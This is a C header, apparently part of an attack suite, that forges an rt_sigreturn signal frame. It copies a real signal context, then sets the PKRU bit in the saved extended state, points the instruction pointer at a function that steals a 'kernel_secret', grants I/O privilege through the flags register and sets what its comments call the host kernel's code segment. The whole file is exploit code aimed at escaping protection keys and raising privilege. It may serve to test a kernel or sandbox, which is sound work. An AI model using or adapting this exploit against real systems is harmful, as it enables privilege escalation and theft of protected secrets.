/* A frame for rt_sigreturn that was never a signal's: every bit of PKRU open, another code segment, all flags, a stack in the kernel. */
#ifndef SIGRETURN_H
#define SIGRETURN_H

#include "attack.h"

#define STATE_SIZE (2 * PAGE)

static struct {
	uint64_t restorer;
	ucontext_t context;
} forged __attribute__((aligned(64)));
static uint8_t forged_state[STATE_SIZE] __attribute__((aligned(64)));
static uint8_t forged_stack[PAGE] __attribute__((aligned(64)));
static uintptr_t secret;

static void goal(void)
{
	steal(secret);
	_exit(0);
}

static void keep_state(int signal, siginfo_t *info, void *context)
{
	ucontext_t *u = context;
	uint32_t size;

	(void)signal, (void)info;
	memcpy(&size, (uint8_t *)u->uc_mcontext.fpregs + 468, sizeof size);
	memcpy(forged_state, u->uc_mcontext.fpregs, size < STATE_SIZE ? size : STATE_SIZE);
	memcpy(&forged.context, u, offsetof(ucontext_t, uc_sigmask));
}

static void forge(void)
{
	struct sigaction action = { .sa_sigaction = keep_state, .sa_flags = SA_SIGINFO };
	uint64_t components;
	greg_t *r = forged.context.uc_mcontext.gregs;

	secret = at("kernel_secret");
	sigaction(SIGUSR1, &action, NULL);
	raise(SIGUSR1);
	memcpy(&components, forged_state + 512, sizeof components);
	components |= 1ul << 9; /* PKRU; its value in the image, wherever that is, is 0 or a piece of what follows */
	memcpy(forged_state + 512, &components, sizeof components);
	memcpy(forged_state + 472, &components, sizeof components);
	forged.context.uc_mcontext.fpregs = (void *)forged_state;
	r[REG_RIP] = (greg_t)goal;
	r[REG_RSP] = (greg_t)(forged_stack + sizeof forged_stack - 8);
	r[REG_EFL] = 0x3202; /* with the right to do I/O */
	r[REG_CSGSFS] = (greg_t)(0x10 | 0x18l << 48); /* the host kernel's */
}

#endif
